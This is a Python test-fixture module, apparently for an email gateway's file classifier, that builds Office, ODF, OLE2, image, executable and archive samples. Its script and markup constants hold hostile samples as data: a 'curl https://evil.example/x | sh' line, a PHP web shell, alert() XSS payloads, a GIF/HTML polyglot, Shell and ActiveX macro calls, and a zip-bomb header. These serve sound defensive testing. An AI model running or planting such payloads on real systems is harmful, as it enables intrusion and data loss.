"""Builds real sample files at test time, so no binary fixture is committed.

Office documents come from the libraries that write them for real (python-docx, openpyxl,
python-pptx, odfpy) and images from Pillow; a test that needs one of them skips with a clear
reason when the library is missing. Formats without a writer on PyPI worth depending on
(PE, Mach-O, HEIC, 7z, RAR, OLE2 compound files) are built from their published layouts.
"""

from __future__ import annotations

import functools
import gzip
import io
import struct
import sys
import tarfile
import uuid
import zipfile
import zlib
from pathlib import Path

import pytest

# --------------------------------------------------------------------------- office (real writers)


@functools.cache
def docx() -> bytes:
    docx_mod = pytest.importorskip("docx", reason="python-docx (test extra) writes real .docx files")
    document = docx_mod.Document()
    document.add_heading("Consultation summary", level=1)
    document.add_paragraph("Patient seen today. Follow-up in two weeks.")
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


@functools.cache
def xlsx() -> bytes:
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl (test extra) writes real .xlsx files")
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["date", "value"])
    sheet.append(["2024-01-01", 42])
    buf = io.BytesIO()
    workbook.save(buf)
    return buf.getvalue()


@functools.cache
def pptx() -> bytes:
    pptx_mod = pytest.importorskip("pptx", reason="python-pptx (test extra) writes real .pptx files")
    presentation = pptx_mod.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[0])
    slide.shapes.title.text = "Care plan"
    buf = io.BytesIO()
    presentation.save(buf)
    return buf.getvalue()


@functools.cache
def _odf(kind: str) -> bytes:
    opendocument = pytest.importorskip("odf.opendocument", reason="odfpy (test extra) writes real ODF files")
    text = pytest.importorskip("odf.text")
    factory = {
        "odt": opendocument.OpenDocumentText,
        "ods": opendocument.OpenDocumentSpreadsheet,
        "odp": opendocument.OpenDocumentPresentation,
    }[kind]
    doc = factory()
    if kind == "odt":
        doc.text.addElement(text.P(text="Consultation summary"))
    buf = io.BytesIO()
    doc.write(buf)
    return buf.getvalue()


def odt() -> bytes:
    return _odf("odt")


def ods() -> bytes:
    return _odf("ods")


def odp() -> bytes:
    return _odf("odp")


_MACRO_MAIN = {
    "word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "ppt/presentation.xml": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}


def macro_enable(package: bytes, *, content_types_first: bool = True) -> bytes:
    """Turn a real OOXML package into its macro-enabled twin, as Office saves a .docm/.xlsm/.pptm.

    The main part's content type becomes `…macroEnabled.main+xml`, a `vbaProject.bin` (a real OLE2
    compound file holding a `VBA` storage) is added next to it, with its relationship. Office writes
    `[Content_Types].xml` first; `content_types_first=False` keeps the writer's own order.
    """
    src = zipfile.ZipFile(io.BytesIO(package))
    names = src.namelist()
    main = next(name for name in _MACRO_MAIN if name in names)
    folder = main.split("/")[0]
    content_types = src.read("[Content_Types].xml").decode()
    old = f'PartName="/{main}" ContentType="'
    start = content_types.index(old) + len(old)
    end = content_types.index('"', start)
    content_types = content_types[:start] + _MACRO_MAIN[main] + content_types[end:]
    content_types = content_types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels_name = f"{folder}/_rels/{main.split('/')[1]}.rels"
    rels = (
        src.read(rels_name)
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
            ' Target="vbaProject.bin"/></Relationships>',
        )
    )
    replaced = {"[Content_Types].xml": content_types.encode(), rels_name: rels.encode()}
    order = list(names)
    if content_types_first:
        order.remove("[Content_Types].xml")
        order.insert(0, "[Content_Types].xml")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in order:
            dst.writestr(name, replaced.get(name, src.read(name)))
        dst.writestr(f"{folder}/vbaProject.bin", cfb({"dir": 4096 * b"\x01"}, storages=("VBA",)))
    return out.getvalue()


def odf_with_basic_macro(package: bytes) -> bytes:
    """An ODF package carrying a LibreOffice Basic library, as LibreOffice saves one."""
    src = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        dst.writestr(
            "Basic/Standard/Module1.xml", '<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>'
        )
        dst.writestr("Basic/script-lc.xml", "<library:libraries/>")
    return out.getvalue()


# --------------------------------------------------------------------------- OLE2 / CFB (legacy office)

_FREE, _END, _FAT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512


def cfb(
    streams: dict[str, bytes],
    *,
    storages: tuple[str, ...] = (),
    directory_last: bool = False,
    padding_sectors: int = 0,
    root_clsid: bytes = bytes(16),
) -> bytes:
    """A version-3 compound file (MS-CFB) with the given root-level streams and empty storages.

    Streams are padded to ≥ 4096 bytes so they live in regular sectors (no mini stream).
    `directory_last` puts the directory after the streams (where a large legacy file often has
    it, out of reach of an 8 KB head); `padding_sectors` adds a filler stream before it.
    """
    entries: list[tuple[str, int, bytes]] = [
        (name, 2, data.ljust(4096, b"\0")) for name, data in streams.items()
    ]
    if padding_sectors:
        entries.append(("Filler", 2, bytes(padding_sectors * _SECTOR)))
    entries += [(name, 1, b"") for name in storages]
    n_dir_entries = len(entries) + 1
    dir_sectors = -(-n_dir_entries * 128 // _SECTOR)
    data_sectors = [-(-len(data) // _SECTOR) for _, _, data in entries]
    total = 1 + dir_sectors + sum(data_sectors)  # one FAT sector covers 128 sectors
    assert total <= 128, "keep test files small"
    fat = [_FREE] * 128
    fat[0] = _FAT
    next_sector = 1
    order = ["data", "dir"] if directory_last else ["dir", "data"]
    dir_start = 0
    starts: list[int] = []
    for what in order:
        if what == "dir":
            dir_start = next_sector
            for i in range(dir_sectors):
                fat[next_sector + i] = next_sector + i + 1 if i < dir_sectors - 1 else _END
            next_sector += dir_sectors
        else:
            for count in data_sectors:
                starts.append(next_sector if count else _END)
                for i in range(count):
                    fat[next_sector + i] = next_sector + i + 1 if i < count - 1 else _END
                next_sector += count

    def entry(
        name: str, kind: int, start: int, size: int, child: int, right: int, clsid: bytes = bytes(16)
    ) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", _NOSTREAM, right, child)
            + clsid
            + bytes(4 + 8 + 8)
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, _END, 0, 1 if entries else _NOSTREAM, _NOSTREAM, root_clsid)
    for i, (name, kind, data) in enumerate(entries):
        right = i + 2 if i + 1 < len(entries) else _NOSTREAM
        start = starts[i] if kind == 2 else 0
        directory += entry(name, kind, start, len(data), _NOSTREAM, right)
    directory = directory.ljust(dir_sectors * _SECTOR, b"\0")
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, dir_start, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<108I", *([_FREE] * 108))
    )
    assert len(header) == _SECTOR
    body = bytearray(header + struct.pack("<128I", *fat))
    for what in order:
        if what == "dir":
            body += directory
        else:
            for _, _, data in entries:
                body += data.ljust(-(-len(data) // _SECTOR) * _SECTOR, b"\0")
    return bytes(body)


def legacy_doc(*, macros: bool = False, directory_last: bool = False, padding_sectors: int = 0) -> bytes:
    """A Word 97-2003 style compound file (`WordDocument`, `1Table`; `Macros`/`VBA` storages if asked)."""
    streams = {"WordDocument": b"\xec\xa5\xc1\x00" + bytes(60), "1Table": b"\x00"}
    storages = ("Macros", "VBA") if macros else ()
    return cfb(streams, storages=storages, directory_last=directory_last, padding_sectors=padding_sectors)


def legacy_xls(
    *, macros: bool = False, directory_last: bool = False, padding_sectors: int = 0, xlm: bool = False
) -> bytes:
    """An Excel 97-2003 style compound file (`Workbook`; `_VBA_PROJECT_CUR` storage if asked).

    `xlm` lists a second sheet of type 1, an Excel 4.0 macro sheet, in the workbook globals.
    """
    storages = ("_VBA_PROJECT_CUR", "VBA") if macros else ()
    workbook = {"Workbook": _biff_globals(xlm)}
    return cfb(workbook, storages=storages, directory_last=directory_last, padding_sectors=padding_sectors)


def _biff_globals(xlm: bool) -> bytes:
    """BIFF8 workbook globals: BOF, a BOUNDSHEET per sheet (type byte: 0 worksheet, 1 macro sheet), EOF."""

    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    def sheet(name: str, kind: int) -> bytes:
        return record(0x0085, struct.pack("<IBBBB", 0, 0, kind, len(name), 0) + name.encode("latin-1"))

    bof = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    sheets = sheet("Sheet1", 0) + (sheet("Macro1", 1) if xlm else b"")
    return bof + sheets + record(0x000A, b"")


def installer_package() -> bytes:
    """A compound file whose root CLSID is Windows Installer's (an .msi), with a decoy Word stream."""
    clsid = uuid.UUID("000C1084-0000-0000-C000-000000000046").bytes_le
    return cfb({"WordDocument": b"\xec\xa5\xc1\x00" + bytes(60)}, directory_last=True, root_clsid=clsid)


# --------------------------------------------------------------------------- images and PDF (Pillow)


@functools.cache
def image(fmt: str) -> bytes:
    pil = pytest.importorskip("PIL.Image", reason="Pillow (test extra) writes real images")
    buf = io.BytesIO()
    picture = pil.new("RGB", (16, 16), (200, 30, 30))
    picture.save(buf, fmt)
    return buf.getvalue()


def png() -> bytes:
    return image("PNG")


def jpeg() -> bytes:
    return image("JPEG")


def gif() -> bytes:
    return image("GIF")


def tiff() -> bytes:
    return image("TIFF")


def webp() -> bytes:
    return image("WEBP")


def pdf() -> bytes:
    return image("PDF")


def heic_head() -> bytes:
    """The head of an iPhone HEIC photo: an ISO-BMFF `ftyp` box with the `heic` brand, then `meta`."""
    ftyp = struct.pack(">I4s4sI", 24, b"ftyp", b"heic", 0) + b"mif1heic"
    meta = struct.pack(">I4s", 40, b"meta") + bytes(4) + struct.pack(">I4s", 28, b"hdlr") + bytes(8) + b"pict"
    return ftyp + meta + bytes(8)


def gif_html_polyglot() -> bytes:
    """A GIF header whose bytes also parse as HTML/JS (HOSTILE-INPUTS F5)."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=1;<script>alert(document.domain)</script>"


# --------------------------------------------------------------------------- executables


@functools.cache
def elf_head() -> bytes:
    """The first 8 KB of a real ELF program of this machine."""
    for candidate in ("/bin/true", "/usr/bin/true", sys.executable):
        path = Path(candidate)
        if path.is_file():
            with path.open("rb") as fh:
                head = fh.read(8192)
            if head.startswith(b"\x7fELF"):
                return head
    pytest.skip("no ELF binary on this machine")


def pe(*, pe64: bool = False, dll: bool = False) -> bytes:
    """A minimal Portable Executable: MZ stub, PE signature, COFF header, optional header, one section."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    opt_size = 240 if pe64 else 224
    characteristics = 0x0022 if pe64 else 0x0102
    if dll:
        characteristics |= 0x2000
    coff = b"PE\0\0" + struct.pack(
        "<HHIIIHH", 0x8664 if pe64 else 0x14C, 1, 0, 0, 0, opt_size, characteristics
    )
    opt = bytearray(opt_size)
    struct.pack_into("<H", opt, 0, 0x20B if pe64 else 0x10B)
    struct.pack_into("<H", opt, 68, 2)  # Subsystem: Windows GUI
    section = b".text\0\0\0" + bytes(32)
    return bytes(dos) + coff + bytes(opt) + section + bytes(512)


def macho() -> bytes:
    """A 64-bit Mach-O header (MH_MAGIC_64, x86_64, MH_EXECUTE)."""
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(256)


def windows_shortcut() -> bytes:
    """The header of a Windows .lnk (Shell Link) file."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I", 0x4C) + clsid + bytes(56)


# --------------------------------------------------------------------------- text, markup, scripts

HTML = b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body><script>x()</script></body></html>\n"
HTML_FRAGMENT = b'\n  <iframe src="https://evil.example/"></iframe>\n'
XHTML = (
    b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>\n'
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>\n'
)
SVG_AFTER_COMMENT = (
    b'<?xml version="1.0"?>\n<!-- ' + b"x" * 3000 + b' -->\n<svg xmlns="http://www.w3.org/2000/svg"/>\n'
)
UTF16_HTML = "\ufeff<html><body><script>alert(1)</script></body></html>".encode("utf-16-le")
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
PERL = b"#!/usr/bin/perl\nprint 1;\n"
PHP = b"<?php system($_GET['c']); ?>\n"
NODE = b"#!/usr/bin/env node\nrequire('child_process').exec('id')\n"
BATCH = b"@echo off\r\ndel /q C:\\x\r\n"
PLAIN = b"Dear doctor,\nplease find my results below.\nRegards\n"
JS_NO_SHEBANG = b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"
CSV = b"date,systolic,diastolic\n2024-01-01,120,80\n2024-01-02,118,79\n"
ICS = (
    b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//mailbridge//tests//EN\r\nBEGIN:VEVENT\r\n"
    b"UID:1@example.test\r\nDTSTAMP:20240101T090000Z\r\nDTSTART:20240102T090000Z\r\n"
    b"SUMMARY:Appointment\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello}\n"


# --------------------------------------------------------------------------- archives


def zip_archive(members: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (members or {"notes.txt": PLAIN, "setup.exe": pe()}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def zip_bomb_head(uncompressed: int = 4 * 1024 * 1024) -> bytes:
    """A zip whose first member inflates ~1000:1 and is named like an OOXML manifest, all within 8 KB."""
    raw = bytes(uncompressed)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = compressor.compress(raw) + compressor.flush()
    name = b"[Content_Types].xml"
    header = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, zlib.crc32(raw), len(deflated), len(raw), len(name), 0
    )
    return header + name + deflated


def gzip_file() -> bytes:
    return gzip.compress(PLAIN * 10, mtime=0)


def tar_file() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("notes.txt")
        info.size = len(PLAIN)
        tf.addfile(info, io.BytesIO(PLAIN))
    return buf.getvalue()


def seven_zip_head() -> bytes:
    """A 7z signature header (version 0.4) with an empty next-header pointer."""
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<IQQI", 0, 0, 0, 0)


def rar5_head() -> bytes:
    """A RAR 5 signature followed by the start of a main archive header."""
    return b"Rar!\x1a\x07\x01\x00" + bytes.fromhex("33 92 b5 e5 0a 01 05 06 00 05 01 01 80 80 00")
